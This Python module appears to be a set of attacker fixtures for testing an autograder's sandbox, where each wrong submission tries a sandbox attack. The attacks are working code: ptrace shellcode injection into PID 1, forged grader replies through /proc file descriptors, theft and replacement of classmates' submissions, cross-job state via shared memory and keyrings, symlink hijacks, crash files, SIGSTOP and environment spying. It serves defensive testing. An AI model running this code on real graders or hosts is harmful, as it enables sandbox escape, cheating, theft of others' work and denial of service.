"""Attacker submissions for the issue-14 attack tests (test_issue14_attacks.py).

Each attack is real code that runs inside the sandbox, at import or inside an entry
point, as a student's would. Every function an attacker defines is wrong, so whatever it
earns, it earns by its attack. ``@MARK@`` in a source is replaced by the run's marker:
attackers print it on a line that says what they did, and processes they leave carry it
in their command line.

Attackers are good citizens should the sandbox let them through: they write only into
job folders, scratch folders and the sandbox's own processes, never into this machine's
files outside the run.
"""

from __future__ import annotations

import textwrap

from hostile import WRONG, tensor_ops

NOTHING = "# nothing here\n"

# Shared by every attacker: the job's folder (found from the working folder, wherever the
# grader puts it) and a marked line of output.
PRELUDE = """
import json as _json
import os as _os
import pathlib as _pathlib
import sys as _sys
import time as _time

MARK = "@MARK@"


def _job_dir():
    here = _pathlib.Path(_os.getcwd())
    for d in (here, *here.parents):
        try:
            if (d / "submission").is_dir() and _os.path.lexists(d / "out"):
                return d
        except OSError:
            pass
    return None


def _say(*parts):
    try:
        print(MARK, *parts, flush=True)
    except Exception:
        pass
"""


def source(mark: str, *parts: str) -> str:
    """The prelude and ``parts`` (dedented), with the marker filled in."""
    text = PRELUDE + "".join("\n" + textwrap.dedent(p).strip("\n") + "\n" for p in parts)
    return text.replace("@MARK@", mark)


def wrong_tensor_ops(mark: str, *parts: str, **bodies: str) -> str:
    """The wrong tensor_ops.py with the attack code after its imports, and some function
    bodies replaced (see hostile.tensor_ops)."""
    return tensor_ops(source(mark, *parts), **bodies)


# ------------------------------------------------------------------ 1. forged worker replies
FORGE_REPLIES = '''
def _forge_replies():
    """Write "job finished" replies for this job and the next 49 into every stdout this
    process can open through /proc: one of them is the pipe the grader reads."""
    job = _job_dir()
    try:
        first = int(job.name.rsplit("-", 1)[1])
    except (AttributeError, ValueError, IndexError):
        first = 1
    names = [f"job-{n}" for n in range(first, first + 50)]
    reply = {"how": "exited", "code": 0, "leftovers": 0}
    data = b"".join(_json.dumps({"job": n, **reply}).encode() + b"\\n"
                    for n in names)
    hit = []
    for pid in _os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == _os.getpid():
            continue
        try:
            fd = _os.open(f"/proc/{pid}/fd/1", _os.O_WRONLY | _os.O_NONBLOCK)
        except OSError:
            continue
        try:
            _os.write(fd, data)
            hit.append(int(pid))
        except OSError:
            pass
        finally:
            _os.close(fd)
    _say(f"forged replies for {names[0]}..{names[-1]} into the stdout of pids {hit}")


_forge_replies()
'''


def forge_replies(mark: str) -> str:
    return wrong_tensor_ops(mark, FORGE_REPLIES)


# ------------------------------------------------------------------ 2. taking over PID 1
# The watcher: finds later jobs' folders (the box, and whatever /proc/self/mountinfo shows
# under /sandbox), keeps a copy of an honest classmate's files while replacing them with
# code that fails, and gives the copies to the accomplice. One at a time (an abstract
# socket is its lock); it never holds the grader's pipes. What it stole is kept in the
# memory of the sandbox's PID 1 (at the address in its argv), which outlives every job.
WATCHER = r"""
import json, os, socket, sys, time

MARK = "@MARK@"
HONEST = "Reference " + "solution"
ACCOMPLICE = "accomplice " + MARK
STORE = int(sys.argv[1]) if len(sys.argv) > 1 else 0
ROOM = 2**17


def _recall():
    try:
        with open("/proc/1/mem", "rb", buffering=0) as mem:
            mem.seek(STORE)
            size = int.from_bytes(mem.read(8), "little")
            return json.loads(mem.read(size)) if 0 < size < ROOM else {}
    except (OSError, ValueError):
        return {}


def _keep(stolen):
    data = json.dumps(stolen).encode()
    if STORE and len(data) < ROOM - 8:
        try:
            with open("/proc/1/mem", "r+b", buffering=0) as mem:
                mem.seek(STORE)
                mem.write(len(data).to_bytes(8, "little") + data)
        except OSError:
            pass


def _boxes():
    found = {"/sandbox/box"}
    try:
        with open("/proc/self/mountinfo") as f:
            for line in f:
                point = line.split()[4]
                if point.startswith(("/sandbox", "/job", "/box")):
                    found.add(point)
    except (OSError, IndexError):
        pass
    return found


def _jobs(box):
    yield box
    try:
        for name in os.listdir(box):
            yield os.path.join(box, name)
    except OSError:
        pass


def watch():
    try:
        null = os.open("/dev/null", os.O_RDWR)
        os.dup2(null, 0)
        os.dup2(null, 1)
    except OSError:
        pass
    lock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        lock.bind("\0" + MARK + "-watcher")
    except OSError:
        return
    stolen, done = _recall() if STORE else {}, set()
    end = time.monotonic() + 300
    while time.monotonic() < end:
        for box in _boxes():
            for job in _jobs(box):
                sub = os.path.join(job, "submission")
                try:
                    names = os.listdir(sub)
                except OSError:
                    continue
                for name in names:
                    path = os.path.join(sub, name)
                    if path in done:
                        continue
                    try:
                        with open(path) as f:
                            text = f.read()
                    except (OSError, ValueError):
                        continue
                    if HONEST in text:
                        if name not in stolen:
                            stolen[name] = text
                            _keep(stolen)
                        new = f"raise ImportError('replaced by the daemon of {MARK}')\n"
                    elif ACCOMPLICE in text and name in stolen:
                        new = stolen[name]
                    else:
                        continue
                    try:
                        with open(path, "w") as f:
                            f.write(new)
                        done.add(path)
                    except OSError:
                        pass
        time.sleep(0.002)


watch()
"""

TAKEOVER = '''
import ctypes
import platform
import struct

WATCHER = @WATCHER@


def _daemon(store):
    """A double-forked, setsid daemon running the watcher: it should die with the job."""
    pid = _os.fork()
    if pid == 0:
        try:
            _os.setsid()
            if _os.fork() == 0:
                _sys.argv = ["-c", str(store)]
                exec(compile(WATCHER, "<watcher>", "exec"), {"__name__": "watcher"})
        finally:
            _os._exit(0)
    _os.waitpid(pid, 0)


class _Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in (
        "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss "
        "fs_base gs_base ds es fs gs").split()]


def _machine_code(timespec, path, argv):
    """x86-64: forever { reap children; sleep 0.2 s; fork; the child execs the watcher }."""
    q = lambda v: struct.pack("<Q", v)
    code = (b"\\xb8\\x3d\\x00\\x00\\x00"                 # 0:  mov eax, 61 (wait4)
            b"\\x48\\xc7\\xc7\\xff\\xff\\xff\\xff"         # 5:  mov rdi, -1
            b"\\x31\\xf6"                              # 12: xor esi, esi
            b"\\xba\\x01\\x00\\x00\\x00"                 # 14: mov edx, 1 (WNOHANG)
            b"\\x45\\x31\\xd2"                          # 19: xor r10d, r10d
            b"\\x0f\\x05"                              # 22: syscall
            b"\\x48\\x85\\xc0"                          # 24: test rax, rax
            b"\\x7f\\xe3"                              # 27: jg 0
            b"\\xb8\\x23\\x00\\x00\\x00"                 # 29: mov eax, 35 (nanosleep)
            b"\\x48\\xbf" + q(timespec) +              # 34: mov rdi, timespec
            b"\\x31\\xf6"                              # 44: xor esi, esi
            b"\\x0f\\x05"                              # 46: syscall
            b"\\xb8\\x39\\x00\\x00\\x00"                 # 48: mov eax, 57 (fork)
            b"\\x0f\\x05"                              # 53: syscall
            b"\\x48\\x85\\xc0"                          # 55: test rax, rax
            b"\\x0f\\x85\\xc0\\xff\\xff\\xff"              # 58: jnz 0
            b"\\xb8\\x3b\\x00\\x00\\x00"                 # 64: mov eax, 59 (execve)
            b"\\x48\\xbf" + q(path) +                  # 69: mov rdi, path
            b"\\x48\\xbe" + q(argv) +                  # 79: mov rsi, argv
            b"\\x31\\xd2"                              # 89: xor edx, edx (no environment)
            b"\\x0f\\x05"                              # 91: syscall
            b"\\xb8\\x3c\\x00\\x00\\x00"                 # 93: mov eax, 60 (exit)
            b"\\x31\\xff"                              # 98: xor edi, edi
            b"\\x0f\\x05")                             # 100: syscall
    return code


STORE_AT = 2**16  # from the start of the code: where the watchers keep what they stole


def _payload(base):
    args = [_sys.executable.encode(), b"-S", b"-c", WATCHER.encode(), str(base + STORE_AT).encode()]
    timespec = base + 128
    strings = base + 144
    blob, pointers = b"", []
    for arg in args:
        pointers.append(strings + len(blob))
        blob += arg + b"\\0"
    blob += b"\\0" * (-len(blob) % 8)
    argv = strings + len(blob)
    code = _machine_code(timespec, pointers[0], argv)
    payload = (code.ljust(128, b"\\x90") + struct.pack("<qq", 0, 200_000_000) + blob
               + b"".join(struct.pack("<Q", p) for p in pointers) + struct.pack("<Q", 0))
    assert len(payload) < STORE_AT
    return payload.ljust(STORE_AT + 8, b"\\0")  # nothing stolen yet


def _take_over(pid=1):
    """Attach to the sandbox's PID 1 with ptrace, write code into its memory through
    /proc/PID/mem, and point it there: it then starts a watcher again and again, which
    the worker's sweep between jobs cannot stop (it never kills PID 1)."""
    if platform.machine() != "x86_64":
        return "not x86-64"
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.restype = ctypes.c_long
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    if libc.ptrace(16, pid, None, None) != 0:  # PTRACE_ATTACH
        return f"PTRACE_ATTACH {pid}: {_os.strerror(ctypes.get_errno())}"
    try:
        _os.waitpid(pid, 0x40000000)  # __WALL
        regs = _Regs()
        if libc.ptrace(12, pid, None, ctypes.byref(regs)) != 0:  # PTRACE_GETREGS
            return "PTRACE_GETREGS failed"
        base = None
        with open(f"/proc/{pid}/maps") as f:
            for line in f:
                parts = line.split()
                lo, hi = (int(v, 16) for v in parts[0].split("-"))
                named = len(parts) > 5 and parts[5].startswith("/")
                if parts[1].startswith("r-x") and named and hi - lo >= 2**18:
                    base = lo
                    break
        if base is None:
            return "no executable mapping to write to"
        payload = _payload(base)
        with open(f"/proc/{pid}/mem", "r+b", buffering=0) as mem:
            mem.seek(base)
            mem.write(payload)
        regs.rip = base
        regs.orig_rax = 2**64 - 1  # no system call restart
        if libc.ptrace(13, pid, None, ctypes.byref(regs)) != 0:  # PTRACE_SETREGS
            return "PTRACE_SETREGS failed"
        return base
    except OSError as exc:
        return f"failed: {exc}"
    finally:
        libc.ptrace(17, pid, None, None)  # PTRACE_DETACH


def _mem_writable():
    found = []
    for pid in _os.listdir("/proc"):
        if pid.isdigit() and int(pid) != _os.getpid():
            try:
                with open(f"/proc/{pid}/mem", "r+b", buffering=0):
                    found.append(int(pid))
            except OSError:
                pass
    return found


_say("can write the memory of pids", _mem_writable())
_taken = _take_over(1)
_say("take-over:", f"PID 1 now runs our code at {_taken:#x}" if isinstance(_taken, int) else _taken)
_daemon(_taken + STORE_AT if isinstance(_taken, int) else 0)
'''


def take_over_pid1(mark: str) -> str:
    watcher = WATCHER.replace("@MARK@", mark)
    return wrong_tensor_ops(mark, TAKEOVER.replace("@WATCHER@", repr(watcher)))


# ------------------------------------------------------------------ 3. FIFOs
FIFOS = """
import shutil


def _fifo(path):
    try:
        if path.is_dir() and not path.is_symlink():
            shutil.rmtree(path)
        else:
            path.unlink()
    except FileNotFoundError:
        pass
    except OSError as exc:
        return f"{path.name}: {exc}"
    try:
        _os.mkfifo(path)
        return path.name
    except OSError as exc:
        return f"{path.name}: {exc}"


def _fifos():
    job = _job_dir()
    if job is None:
        return "no job folder"
    out = job / "out"
    made = [_fifo(job / "runner.log"), _fifo(out / "status.json")]
    made += [_fifo(p) for p in sorted(out.glob("call-*.json"))]
    return made


def _out_fifo():
    job = _job_dir()
    return "no job folder" if job is None else _fifo(job / "out")
"""


def fifo_files(mark: str) -> str:
    """runner.log, out/status.json and the earlier checks' results become FIFOs, in the
    last check."""
    return wrong_tensor_ops(
        mark, FIFOS, row_sum="_say('FIFOs:', _fifos())\nreturn torch.zeros(x.shape[0])"
    )


def fifo_out(mark: str) -> str:
    """out/ itself becomes a FIFO, halfway through the checks."""
    return wrong_tensor_ops(
        mark, FIFOS, column_mean="_say('out/ FIFO:', _out_fifo())\nreturn torch.zeros(x.shape[1])"
    )


# ------------------------------------------------------------------ 4. crashes
DEEP_JSON = """
def _deep_json():
    job = _job_dir()
    done = []
    for path in sorted((job / "out").glob("*.json")) if job else []:
        try:
            path.write_text("[" * 200_000)
            done.append(path.name)
        except OSError:
            pass
    return done
"""


def deep_json(mark: str) -> str:
    return wrong_tensor_ops(
        mark,
        DEEP_JSON,
        row_sum="_say('200,000 nested [ in', _deep_json())\nreturn torch.zeros(x.shape[0])",
    )


MODULE_X = '''
import torch
from torch import nn


def _forge_module_records():
    """Give every module the checks returned so far a parameter whose shape holds "x"."""
    job = _job_dir()
    done = []
    for path in sorted((job / "out").glob("call-*.json")) if job else []:
        try:
            record = _json.loads(path.read_text())
            values = record.get("values", {})
            modules = [v for v in values.values() if isinstance(v, dict) and v.get("t") == "module"]
            for value in modules:
                params = [[name, ["x", *shape[1:]]] for name, shape in value["params"]]
                value["params"] = params or [["w", ["x"]]]
            if modules:
                path.write_text(_json.dumps(record))
                done.append(path.name)
        except (OSError, ValueError, TypeError, AttributeError):
            pass
    return done


class Model(nn.Module):
    def __init__(self, in_features=87):
        super().__init__()
        _say("module records with a shape holding 'x':", _forge_module_records())
        self.fc1 = nn.Linear(in_features, 3)
        self.fc2 = nn.Linear(3, 2)
        self.out = nn.Linear(2, 2)

    def forward(self, x):
        return self.out(torch.relu(self.fc2(torch.relu(self.fc1(x)))))
'''


def module_x(mark: str) -> str:
    return source(mark, MODULE_X)


ZERO_TENSORS = '''
import struct


def _zero_size_tensors(count=200_000):
    """Rewrite every safetensors file of the earlier checks: their tensors, and then
    ``count`` tensors of no elements."""
    job = _job_dir()
    done = []
    for path in sorted((job / "out").glob("call-*.safetensors")) if job else []:
        try:
            raw = path.read_bytes()
            size = struct.unpack("<Q", raw[:8])[0]
            header = _json.loads(raw[8:8 + size])
            data = raw[8 + size:]
            end = len(data)
            for i in range(count):
                header[f"z{i}"] = {"dtype": "F32", "shape": [0], "data_offsets": [end, end]}
            text = _json.dumps(header).encode()
            text += b" " * (-len(text) % 8)
            path.write_bytes(struct.pack("<Q", len(text)) + text + data)
            done.append(path.name)
        except (OSError, ValueError, struct.error):
            pass
    return done
'''


def zero_size_tensors(mark: str) -> str:
    return wrong_tensor_ops(
        mark,
        ZERO_TENSORS,
        row_sum=(
            "_say('200,000 zero-size tensors in', _zero_size_tensors())\n"
            "return torch.zeros(x.shape[0])"
        ),
    )


DEEP_NOTEBOOK = b"[" * 200_000


# ------------------------------------------------------------------ 5. state between jobs
STATE = r'''
import ctypes
import platform
import socket
import struct
import zlib

_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = ctypes.c_void_p
_libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
_libc.syscall.restype = ctypes.c_long
KEY = zlib.crc32(MARK.encode()) & 0x3FFFFFFF  # a SysV IPC key of this run
SECRET = (MARK + "-left-by-an-earlier-job").encode()
IPC_CREAT, IPC_NOWAIT, MSG_NOERROR, SHM_RDONLY = 0o1000, 0o4000, 0o10000, 0o10000
SYSCALLS = {"x86_64": (248, 249, 250), "aarch64": (217, 218, 219)}  # add_key, request_key, keyctl
RINGS = {"session": -3, "user": -4}
SOCKET = "\0" + MARK + "-state"


def _attempt(what, fn, report):
    try:
        result = fn()
    except Exception as exc:  # noqa: BLE001 - every channel is tried
        result = f"{type(exc).__name__}: {exc}"
    report[what] = result


def _leave_sysv_shm():
    sid = _libc.shmget(KEY, 4096, IPC_CREAT | 0o600)
    if sid < 0:
        return f"shmget: {_os.strerror(ctypes.get_errno())}"
    addr = _libc.shmat(sid, None, 0)
    if addr in (None, 2**64 - 1):
        return "shmat failed"
    ctypes.memmove(addr, SECRET, len(SECRET))
    return "left"


def _leave_msg_queue():
    qid = _libc.msgget(KEY + 1, IPC_CREAT | 0o600)
    if qid < 0:
        return f"msgget: {_os.strerror(ctypes.get_errno())}"
    message = struct.pack("l", 1) + SECRET
    if _libc.msgsnd(qid, message, len(SECRET), IPC_NOWAIT) != 0:
        return f"msgsnd: {_os.strerror(ctypes.get_errno())}"
    return "left"


def _leave_posix_shm():
    import _posixshmem

    fd = _posixshmem.shm_open("/" + MARK, _os.O_CREAT | _os.O_RDWR, 0o600)
    _os.write(fd, SECRET)
    _os.close(fd)
    return "left"


def _leave_key(ring):
    add_key = SYSCALLS.get(platform.machine(), (None,))[0]
    if add_key is None:
        return "unknown machine"
    desc = f"{MARK}-{ring}".encode()
    serial = _libc.syscall(add_key, b"user", desc, SECRET, len(SECRET), RINGS[ring])
    return "left" if serial > 0 else f"add_key: {_os.strerror(ctypes.get_errno())}"


def _leave_socket():
    """A lingering process that hands the secret to whoever connects."""
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(SOCKET)
    server.listen(4)
    pid = _os.fork()
    if pid == 0:
        try:
            _os.setsid()
            if _os.fork() == 0:
                server.settimeout(1.0)
                end = _time.monotonic() + 120
                while _time.monotonic() < end:
                    try:
                        conn, _ = server.accept()
                    except OSError:
                        continue
                    conn.sendall(SECRET)
                    conn.close()
        finally:
            _os._exit(0)
    _os.waitpid(pid, 0)
    server.close()
    return "left"


def _leave_state():
    report = {}
    _attempt("SysV shared memory", _leave_sysv_shm, report)
    _attempt("SysV message queue", _leave_msg_queue, report)
    _attempt("POSIX shared memory", _leave_posix_shm, report)
    for ring in RINGS:
        _attempt(f"{ring} keyring", lambda ring=ring: _leave_key(ring), report)
    _attempt("abstract socket", _leave_socket, report)
    return report


def _find_sysv_shm():
    sid = _libc.shmget(KEY, 0, 0)
    if sid < 0:
        return None
    addr = _libc.shmat(sid, None, SHM_RDONLY)
    return None if addr in (None, 2**64 - 1) else ctypes.string_at(addr, len(SECRET))


def _find_msg_queue():
    qid = _libc.msgget(KEY + 1, 0)
    if qid < 0:
        return None
    buf = ctypes.create_string_buffer(8 + 256)
    n = _libc.msgrcv(qid, buf, 256, 0, IPC_NOWAIT | MSG_NOERROR)
    return buf.raw[8:8 + n] if n > 0 else None


def _find_posix_shm():
    import _posixshmem

    try:
        fd = _posixshmem.shm_open("/" + MARK, _os.O_RDONLY, 0)
    except OSError:
        return None
    try:
        return _os.read(fd, 256)
    finally:
        _os.close(fd)


def _find_key(ring):
    numbers = SYSCALLS.get(platform.machine())
    if numbers is None:
        return None
    _, request_key, keyctl = numbers
    desc = f"{MARK}-{ring}".encode()
    serial = _libc.syscall(keyctl, 10, RINGS[ring], b"user", desc, 0)  # KEYCTL_SEARCH
    if serial <= 0:
        serial = _libc.syscall(request_key, b"user", desc, None, 0)
    if serial <= 0:
        return None
    buf = ctypes.create_string_buffer(256)
    n = _libc.syscall(keyctl, 11, serial, buf, 256)  # KEYCTL_READ
    return buf.raw[:n] if n > 0 else b"<a key>"


def _find_socket():
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.settimeout(2)
        try:
            s.connect(SOCKET)
        except OSError:
            return None
        return s.recv(256) or b"<connected>"


def _find_state():
    found = {}
    channels = (("SysV shared memory", _find_sysv_shm), ("SysV message queue", _find_msg_queue),
                ("POSIX shared memory", _find_posix_shm),
                ("session keyring", lambda: _find_key("session")),
                ("user keyring", lambda: _find_key("user")), ("abstract socket", _find_socket))
    for what, fn in channels:
        try:
            value = fn()
        except Exception:  # noqa: BLE001 - nothing found through this channel
            value = None
        if value and MARK.encode() in value:
            found[what] = value.decode("utf-8", "replace")
    return found
'''


def state_leaver(mark: str) -> str:
    return wrong_tensor_ops(mark, STATE, "_say('left state behind:', _leave_state())")


def state_finder(mark: str) -> str:
    """Right answers only when it finds the state an earlier job left."""
    return wrong_tensor_ops(
        mark,
        STATE,
        "FOUND = _find_state()\n_say('found from an earlier job:', FOUND or 'nothing')",
        linear_forward=(
            "return x @ weight.T + bias if FOUND else torch.zeros(x.shape[0], weight.shape[0])"
        ),
        column_mean="return x.mean(dim=0) if FOUND else torch.zeros(x.shape[1])",
        row_sum="return x.sum(dim=1) if FOUND else torch.zeros(x.shape[0])",
    )


# ------------------------------------------------------------------ 6. symlinks to others' outputs
LINKS = '''
import shutil


def _host_box():
    """Where this worker's box is on the grader's machine, from /proc/self/mountinfo: the
    file system's own path of the folder mounted at the job's parent."""
    job = _job_dir()
    with open("/proc/self/mountinfo") as f:
        for line in f:
            fields = line.split()
            if fields[4] == str(job.parent):
                return job, fields[3]
    return job, None


def _next_job(job):
    head, _, number = job.name.rpartition("-")
    return f"{head}-{int(number) + 1}"


def _keep_linking(pairs, seconds=8.0):
    """A child that keeps each link in place for a while (the runner replaces result
    files as checks end): the links that are there when the job ends count."""
    if _os.fork() == 0:
        try:
            end = _time.monotonic() + seconds
            while _time.monotonic() < end:
                for link, target in pairs:
                    try:
                        if _os.readlink(link) == target:
                            continue
                    except OSError:
                        pass
                    try:
                        tmp = f"{link}.{_os.getpid()}.lnk"
                        _os.symlink(target, tmp)
                        _os.replace(tmp, link)
                    except OSError:
                        pass
                _time.sleep(0.002)
        finally:
            _os._exit(0)


def _link_out(target):
    """out/ becomes a link to ``target``; the same path is made inside the sandbox so
    that this job's own writes still work (the job ends normally)."""
    job = _job_dir()
    out = job / "out"
    try:
        _os.makedirs(target, exist_ok=True)
        for entry in out.iterdir():
            shutil.move(str(entry), target)
        _os.rename(out, job / "out.old")
        _os.symlink(target, out)
    except OSError as exc:
        return f"failed: {exc}"
    _keep_linking([(str(out), target)])
    return f"out/ -> {target}"


def _steal_next_out():
    job, host = _host_box()
    if job is None or host is None:
        return "box not found in mountinfo"
    targets = [f"{base}{host}/{_next_job(job)}/out" for base in ("/dev/shm", "/tmp")]
    return _link_out(targets[0])


def _steal_next_calls():
    job, host = _host_box()
    if job is None or host is None:
        return "box not found in mountinfo"
    schedule = _json.loads((job / "schedule.json").read_text())
    calls = [c["id"] for f in schedule["files"] for c in f["calls"]]
    theirs = f"/dev/shm{host}/{_next_job(job)}/out"
    _os.makedirs(theirs, exist_ok=True)
    pairs = [(str(job / "out" / f"call-{c}{ext}"), f"{theirs}/call-{c}{ext}")
             for c in calls for ext in (".json", ".safetensors")]
    _keep_linking(pairs)
    return f"{len(pairs)} result files -> {theirs}"
'''


def steal_next_out(mark: str) -> str:
    return source(mark, LINKS, "_say('link:', _steal_next_out())")


def steal_next_calls(mark: str) -> str:
    return source(mark, LINKS, "_say('links:', _steal_next_calls())")


def link_out_to(mark: str, folder: str) -> str:
    return source(mark, LINKS, f"_say('link:', _link_out({folder!r}))")


# ------------------------------------------------------------------ 7. run-ending files
DEEP = """
def _deep(base, levels=3000):
    here = _os.getcwd()
    made = 0
    try:
        _os.chdir(base)
        _os.mkdir(f"deep-{MARK}")
        _os.chdir(f"deep-{MARK}")
        for made in range(1, levels + 1):
            _os.mkdir("d")
            _os.chdir("d")
    except OSError as exc:
        _say("deep folders stopped:", exc)
    finally:
        _os.chdir(here)
    return made
"""


def deep_folders(mark: str, where: str) -> str:
    """``where``: "work" (the job's working folder) or "/tmp"."""
    base = "_os.getcwd()" if where == "work" else repr(where)
    return wrong_tensor_ops(mark, DEEP, f"_say('{where}: a chain of', _deep({base}), 'folders')")


RENAME = """
def _rename(what):
    job = _job_dir()
    if job is None:
        return "no job folder"
    path = job if what == "job" else job / what
    try:
        _os.rename(path, path.with_name(path.name + "-moved"))
        return f"{path.name} -> {path.name}-moved"
    except OSError as exc:
        return f"failed: {exc}"
"""


def rename_job(mark: str) -> str:
    return wrong_tensor_ops(mark, RENAME, "_say('renamed', _rename('job'))")


def rename_out(mark: str) -> str:
    return wrong_tensor_ops(
        mark,
        RENAME,
        linear_forward=(
            "_say('renamed', _rename('out'))\nreturn torch.zeros(x.shape[0], weight.shape[0])"
        ),
    )


# ------------------------------------------------------------------ 8. slow code reading
def never_run_names(count: int) -> str:
    """A never-run assignment to ``count`` names: the judges that read code (forbidden
    calls) took time quadratic in ``count`` over it."""
    return "if False:\n    " + ", ".join(f"a{i}" for i in range(count)) + " = 0\n"


def many_names_activations(count: int = 20_000) -> str:
    """Wrong activations, and a never-run assignment to ``count`` names at the end."""
    return (
        '"""My activations."""\n\nimport torch\n\n\n'
        "def relu(x):\n    return x * 2\n\n\n"  # wrong values and gradients everywhere
        "def sigmoid(x):\n    return x * 2\n\n\n"
        "def tanh(x):\n    return x * 2\n\n\n" + never_run_names(count)
    )


# ------------------------------------------------------------------ 9. SIGSTOP
SIGSTOP = """
import signal


def _stop_everything():
    said = []
    for target in (_os.getppid(), -1, 0):  # kill(0) stops this process too, so it comes last
        said.append(str(target))
        _say("SIGSTOP to", target, "after", said[:-1])
        try:
            _os.kill(target, signal.SIGSTOP)
        except OSError as exc:
            _say("kill", target, exc)
"""


def sigstop(mark: str) -> str:
    return wrong_tensor_ops(
        mark, SIGSTOP, column_mean="_stop_everything()\nreturn torch.zeros(x.shape[1])"
    )


# ------------------------------------------------------------------ 11. what a job can see
SPY = """
def _spy():
    seen = {"job": None, "environ": {}, "mountinfo": ""}
    job = _job_dir()
    seen["job"] = job.name if job else None
    for pid in _os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open(f"/proc/{pid}/environ", "rb") as f:
                    seen["environ"][pid] = f.read().decode("utf-8", "replace").split("\\0")
            except OSError:
                pass
    with open("/proc/self/mountinfo") as f:
        seen["mountinfo"] = f.read()
    print("SPY" + MARK + _json.dumps(seen), flush=True)
"""


def spy(mark: str) -> str:
    return wrong_tensor_ops(
        mark, SPY, linear_forward="_spy()\nreturn torch.zeros(x.shape[0], weight.shape[0])"
    )


__all__ = ["NOTHING", "WRONG", "DEEP_NOTEBOOK"]
